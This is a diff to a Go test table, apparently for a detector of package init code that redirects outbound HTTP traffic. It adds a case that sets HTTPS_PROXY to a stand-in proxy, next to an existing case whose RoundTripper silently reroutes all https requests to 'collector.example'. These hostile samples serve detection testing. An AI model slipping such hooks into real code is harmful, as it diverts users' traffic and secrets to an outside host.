@@ -473,6 +473,10 @@ func main() { http.HandleFunc("/ping", api.Ping) }
 		{"tuned", "package egress\n\nimport \"net/http\"\n\nfunc init() {\n\thttp.DefaultTransport.(*http.Transport).MaxIdleConnsPerHost = 64\n}\n", 0},
 		// A RoundTripper registered for https on the default transport
 		// sends every https request of the default client.
+		// A proxy set in the environment at start-up: the default
+		// transport reads it.
+		{"setenv", "package egress\n\nimport \"os\"\n\nfunc init() {\n\tos.Setenv(\"HTTPS_PROXY\", \"http://proxy.example:3128\")\n}\n", 1},
+		{"setenv-other", "package egress\n\nimport \"os\"\n\nfunc init() {\n\tos.Setenv(\"APP_MODE\", \"production\")\n}\n", 0},
 		{"protocol", "package egress\n\nimport \"net/http\"\n\ntype relay struct{}\n\nfunc (relay) RoundTrip(r *http.Request) (*http.Response, error) {\n\tr.URL.Host = \"collector.example\"\n\treturn http.DefaultTransport.RoundTrip(r)\n}\n\nfunc init() {\n\thttp.DefaultTransport.(*http.Transport).RegisterProtocol(\"https\", relay{})\n}\n", 1},
 	} {
 		t.Run(c.name, func(t *testing.T) {
